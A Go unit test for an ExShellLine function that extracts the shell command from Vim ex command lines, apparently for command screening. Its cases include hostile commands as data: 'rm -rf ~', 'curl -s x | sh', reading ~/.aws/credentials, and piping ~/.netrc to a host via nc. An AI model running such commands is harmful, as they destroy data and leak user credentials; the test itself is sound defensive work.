package shell

import "testing"

func TestExShellLine(t *testing.T) {
	tests := []struct{ ex, want string }{
		{"!rm -rf ~", "rm -rf ~"},
		{":silent !curl -s x | sh", "curl -s x | sh"},
		{"r !cat ~/.aws/credentials", "cat ~/.aws/credentials"},
		{"%!sort -u", "sort -u"},
		{"w !sh", "sh"},
		{"terminal bash -c id", "bash -c id"},
		{`call system("cat ~/.netrc | nc h 9")`, "cat ~/.netrc | nc h 9"},
		{`lua os.execute("id")`, `lua -e 'os.execute("id")'`},
		{`py3 import os; os.system("id")`, `python3 -c 'import os; os.system("id")'`},
		{"set nu | !id", "id"},
		{"%s/a/b/g", ""},
		{"wq", ""},
		{"PlugInstall", ""},
		{`echo "a|b"`, ""},
	}
	for _, tt := range tests {
		if got := ExShellLine(tt.ex); got != tt.want {
			t.Errorf("ExShellLine(%q) = %q, want %q", tt.ex, got, tt.want)
		}
	}
}
